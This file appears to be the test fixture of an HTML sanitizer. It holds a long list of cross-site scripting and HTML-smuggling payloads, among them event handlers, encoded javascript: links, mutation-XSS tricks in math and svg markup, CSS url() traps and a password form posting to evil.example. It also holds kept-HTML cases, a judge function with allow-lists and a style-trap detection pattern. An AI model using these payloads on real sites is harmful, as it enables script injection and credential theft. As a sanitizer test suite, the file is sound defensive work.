// Known ways to smuggle code, traffic or a trap into HTML, and a judge that knows nothing of the cleaner.

const SCRIPT = `${'java'}script:`;

/** Every attack calls this; nothing may. */
export const CANARY = 'window.__canary=1';

export const ATTACKS: readonly [what: string, html: string][] = [
  ['a script', `<script>${CANARY}</script>`],
  ['a script in a script', `<scr<script>ipt>${CANARY}</scr</script>ipt>`],
  ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
  ['an event attribute', `<img src=x onerror=${CANARY}>`],
  ['an event attribute after a slash', `<img/src="x"/onerror=${CANARY}>`],
  ['an event attribute with blanks before its sign', `<img src="x" onerror\n=\n"${CANARY}">`],
  ['an event attribute in capitals', `<IMG SRC=x ONERROR=${CANARY}>`],
  ['an event that begins by itself', `<details open ontoggle=${CANARY}>x</details>`],
  ['an event of an animation', `<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=1>`],
  ['a focus that is taken', `<input autofocus onfocus=${CANARY}>`],
  ['a body', `<body onload=${CANARY}>`],
  ['a link to a script', `<a href="${SCRIPT}${CANARY}">x</a>`],
  ['a link with capitals', `<a href="JaVaScRiPt:${CANARY}">x</a>`],
  ['a link with a tab in it', `<a href="java\tscript:${CANARY}">x</a>`],
  ['a link with a written tab in it', `<a href="java&#9;script:${CANARY}">x</a>`],
  ['a link with a written line end in it', `<a href="jav&#x0A;ascript:${CANARY}">x</a>`],
  ['a link after blanks', `<a href=" &#1; ${SCRIPT}${CANARY}">x</a>`],
  ['a link with a named colon', `<a href="javascript&colon;${CANARY}">x</a>`],
  ['a link with numbers for letters', `<a href="&#106;&#97;vascript:${CANARY}">x</a>`],
  ['a link to another program', `<a href="vbscript:msgbox(1)">x</a>`],
  ['a link to data', `<a href="data:text/html,<script>${CANARY}</script>">x</a>`],
  ['a link to a blob', '<a href="blob:https://evil.example/1">x</a>'],
  ['a link to a file', '<a href="file:///etc/passwd">x</a>'],
  ['a link without a scheme to another site', '<a href="//evil.example/x">x</a>'],
  ['a link that a browser reads as one to another site', '<a href="/\\evil.example/x">x</a>'],
  ['a link that climbs', '<a href="/api/../../x">x</a>'],
  ['a link that may hold its opener', '<a href="https://evil.example/" target="x" rel="opener">x</a>'],
  ['a link of a drawing', `<svg><a xlink:href="${SCRIPT}${CANARY}"><text y=9>x</text></a></svg>`],
  ['an image that is a script', `<img src="${SCRIPT}${CANARY}">`],
  ['an image of another site', '<img src="https://evil.example/p.png">'],
  ['an image of another site without a scheme', '<img src="//evil.example/p.png">'],
  ['a drawing as an image', `<img src="data:image/svg+xml,<svg onload=${CANARY}>">`],
  ['a drawing as an image in base64', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
  ['a page as an image', `<img src="data:text/html;base64,PHA+">`],
  ['an image in many sizes', '<img src="/a.png" srcset="https://evil.example/p.png 2x">'],
  [
    'a picture with sources',
    '<picture><source srcset="https://evil.example/p.png"><img src="/a.png"></picture>',
  ],
  ['an old background', '<table background="https://evil.example/p.png"><tr><td background="x">x</table>'],
  ['a style with an address', '<p style="background:url(https://evil.example/p.png)">x</p>'],
  ['a style with an escaped address', '<p style="background:\\75rl(https://evil.example/p.png)">x</p>'],
  ['a style with a comment in an address', '<p style="background:ur/**/l(https://evil.example/p)">x</p>'],
  ['a style with an expression', `<p style="width:expression(${CANARY})">x</p>`],
  ['a style that covers the page', '<div style="position:fixed;inset:0;z-index:9999;width:100vw">x</div>'],
  ['a style that leaves its box', '<div style="margin-top:-9999px;transform:scale(99)">x</div>'],
  ['a style with a variable', '<p style="--x:url(//evil.example);color:var(--x)">x</p>'],
  ['a sheet of styles', '<style>@import "https://evil.example/x.css"; body{display:none}</style>'],
  ['a linked sheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['a base', '<base href="https://evil.example/"><a href="x">x</a>'],
  ['a refresh', `<meta http-equiv=refresh content="0;url=${SCRIPT}${CANARY}">`],
  ['a frame', '<iframe src="https://evil.example/"></iframe>'],
  ['a frame with a text', `<iframe srcdoc="<script>parent.${CANARY}</script>"></iframe>`],
  ['an object', `<object data="${SCRIPT}${CANARY}"></object><embed src="${SCRIPT}${CANARY}">`],
  ['a form', '<form action="https://evil.example/"><input name=password><button>x</button></form>'],
  ['a button of a form elsewhere', `<button form=x formaction="${SCRIPT}${CANARY}">x</button>`],
  ['a form that hides names', '<form><input name=parentNode><input name=attributes></form>'],
  ['a name that hides a variable', '<a id=__canary name=__canary href="/x">x</a><img name=body src="/x">'],
  ['media', `<video src=x onerror=${CANARY}></video><audio src="https://evil.example/a"></audio>`],
  ['a drawing', `<svg onload=${CANARY}></svg>`],
  ['a drawing with a script', `<svg><script>${CANARY}</script></svg>`],
  ['a drawing with a moving address', `<svg><animate onbegin=${CANARY} attributeName=x></svg>`],
  ['a drawing with a page in it', `<svg><foreignObject><img src=x onerror=${CANARY}></foreignObject></svg>`],
  ['a drawing that refers to another', '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>'],
  ['a formula', `<math><mi xlink:href="${SCRIPT}${CANARY}">x</mi></math>`],
  ['a style in a drawing that ends early', `<svg><style><!--</style><img src=x onerror=${CANARY}>--></svg>`],
  [
    'a style in a drawing with an end in an attribute',
    `<svg></p><style><a id="</style><img src=1 onerror=${CANARY}>">`,
  ],
  [
    'a formula that changes when it is read again',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CANARY}&gt;">`,
  ],
  [
    'a form in a formula that changes when it is read again',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CANARY}>`,
  ],
  [
    'an annotation with a page in it',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${CANARY}></style></annotation-xml></math>`,
  ],
  ['a title that ends in an attribute', `<title><a title="</title><img src=x onerror=${CANARY}>">`],
  ['a text area that ends in an attribute', `<textarea><a title="</textarea><img src=x onerror=${CANARY}>">`],
  ['words without scripts', `<noscript><p title="</noscript><img src=x onerror=${CANARY}>">`],
  ['a template', `<template><img src=x onerror=${CANARY}></template>`],
  ['a comment that ends early', `<!--><img src=x onerror=${CANARY}>-->`],
  ['a comment that ends oddly', `<!--x--!><img src=x onerror=${CANARY}>`],
  ['a section of data', `<![CDATA[><img src=x onerror=${CANARY}>]]>`],
  ['an instruction', `<?xml-stylesheet href="${SCRIPT}${CANARY}"?><img src=x onerror=${CANARY}>`],
  ['an end in an attribute', `<p title="</p><img src=x onerror=${CANARY}>">x</p>`],
  ['a selection with a style in it', `<select><style></select><img src=x onerror=${CANARY}></style>`],
  ['plain text to the end', `<plaintext><img src=x onerror=${CANARY}>`],
  ['an example to the end', `<xmp><p title="</xmp><img src=x onerror=${CANARY}>">`],
  ['an element of its own', `<x-x onclick=${CANARY} is="x">x</x-x><p is="x-x">x</p>`],
  ['a grave accent', `<img src=\`x\` onerror=${CANARY}>`],
  ['a zero', `<img \0src=x onerror=${CANARY}><scr\0ipt>${CANARY}</script>`],
  ['links in links', '<a href="/1"><table><a href="/2">x</a></table></a>'],
  ['tables in tables', '<table><tr><td><table><p><table>x</table></table></table><b><p>y</b>z'],
  ['a paragraph that cannot be', '<p><div><p><table><p>x</table></div>'],
  [
    'a class of the app',
    '<div class="ant-modal-mask" id="root" data-x="1" role="dialog" contenteditable>x</div>',
  ],
  ['a window of the page', '<p popover id=x>x</p><button popovertarget=x>x</button><dialog open>x</dialog>'],
];

/** HTML that stays as it is, and HTML that has one form. */
export const KEPT: readonly [what: string, html: string, result?: string][] = [
  ['text', '只是文字'],
  ['text that looks like a template', '{{ $user.id }} ${x}'],
  ['marks', '<p><strong>粗</strong> <em>斜</em> <u>线</u> <s>删</s> <sub>下</sub><sup>上</sup></p>'],
  ['headings', '<h1>一</h1><h2 align="center">二</h2>'],
  ['lists', '<ol start="3"><li>一</li><li>二<ul><li>三</li></ul></li></ol>'],
  [
    'a table',
    '<table style="border-collapse: collapse; width: 100%" border="1"><colgroup><col style="width: 50%"><col></colgroup><tbody><tr><td colspan="2">一</td></tr></tbody></table>',
  ],
  [
    'looks',
    '<p style="text-align: center; font-size: 16px; line-height: 1.5"><span style="color: #e03e2d; background-color: rgb(1, 2, 3)">红</span></p>',
  ],
  ['a family of letters', `<span style="font-family: 'Microsoft YaHei', 微软雅黑, sans-serif">字</span>`],
  ['old letters', '<font color="#ff0000" face="宋体" size="5">字</font>'],
  [
    'a picture of the app',
    '<p><img src="/api/sys/common/static?imgPath=a" alt="图" width="10" height="20"></p>',
  ],
  ['a small picture inside', '<img src="data:image/png;base64,iVBORw0KGgo=">'],
  ['a stored picture', '<img src="jeditor/图_1.png">'],
  [
    'a link',
    '<a href="https://example.com/a?b=1&amp;c=2">x</a>',
    '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>',
  ],
  ['a link in the text', '<a href="#top">x</a>'],
  [
    'mail',
    '<a href="mailto:a@b.cn">x</a>',
    '<a href="mailto:a@b.cn" target="_blank" rel="noopener noreferrer">x</a>',
  ],
  [
    'a style in another spelling',
    '<p style="COLOR:red;;Width:1PX!important">x</p>',
    '<p style="color: red; width: 1PX">x</p>',
  ],
  ['an unknown element', '<x-y>字</x-y>', '字'],
];

const ELEMENTS = new Set(
  'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'align alt bgcolor border cellpadding cellspacing color colspan datetime dir face height href lang open rel reversed rowspan scope size span src start style target title type valign value width'.split(
    ' ',
  ),
);
const LINKS = new Set(['http:', 'https:', 'mailto:', 'tel:']);
const TRAPS =
  /url\s*\(|expression|@import|\\|\/\*|position|z-index|transform|inset|-\d|(?:^|[^-])animation|var\(|vw|vh/i;

/**
 * What a page may still suffer from the elements below a root, judged by the browser's own reading of addresses.
 * @param root a parsed element, e.g. the body of a document made from the HTML
 * @returns one line per finding
 */
export function findHarm(root: Element): string[] {
  const harm: string[] = [];
  const walker = root.ownerDocument.createTreeWalker(root, 0xff_ff_ff_ff);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node.nodeType === 1) harm.push(...judgeElement(node as Element));
    else if (node.nodeType !== 3) harm.push(`a node of type ${String(node.nodeType)}`);
  }
  return harm;
}

function judgeElement(element: Element): string[] {
  const name = element.localName;
  const harm = ELEMENTS.has(name) && element.namespaceURI?.endsWith('xhtml') ? [] : [`<${name}>`];
  for (const { name: attribute, value } of element.attributes) {
    // An element that was born with it cannot lose it; empty it names nothing.
    if (attribute === 'is' && value === '') continue;
    if (!ATTRIBUTES.has(attribute)) harm.push(`${name} ${attribute}`);
    if (attribute === 'href' && !LINKS.has(protocolOf(value))) harm.push(`link ${value}`);
    if (
      attribute === 'href' &&
      hostOf(value) === 'evil.example' &&
      element.getAttribute('rel') !== 'noopener noreferrer'
    ) {
      harm.push('a page that holds its opener');
    }
    if (attribute === 'href' && value.startsWith('//')) harm.push(`link ${value}`);
    if (attribute === 'src' && !isOwnPicture(value)) harm.push(`picture ${value}`);
    if (attribute === 'style' && TRAPS.test(value)) harm.push(`style ${value}`);
  }
  return harm;
}

/** As a page at this address would read it. */
const PAGE = 'https://app.example/system/user';

function protocolOf(address: string): string {
  return URL.canParse(address, PAGE) ? new URL(address, PAGE).protocol : 'unreadable:';
}

function hostOf(address: string): string {
  return URL.canParse(address, PAGE) ? new URL(address, PAGE).host : '';
}

function isOwnPicture(address: string): boolean {
  if (address.startsWith('data:')) return /^data:image\/(?:png|jpe?g|gif|webp|bmp);base64,/.test(address);
  return protocolOf(address) === 'https:' && hostOf(address) === 'app.example';
}

/** Pieces of which a property test makes HTML that nobody thought of. */
export const PIECES: readonly string[] = [
  ...ATTACKS.map(([, html]) => html),
  ...'<p> </p> <a href=/x> </a> <table> <tr> <td> </td> </table> <b> </b> <i> <form> </form> <svg> </svg> <math> <mtext> <mglyph> <style> </style> <!-- --> <![CDATA[ ]]> <select> <option> </select> <template> <title> </title> <textarea> <li> <ul> </ul> <img <div <span " \' > < = / & &lt; &gt; &#0; onerror= style= href= color:red url( javascript: x'.split(
    ' ',
  ),
];
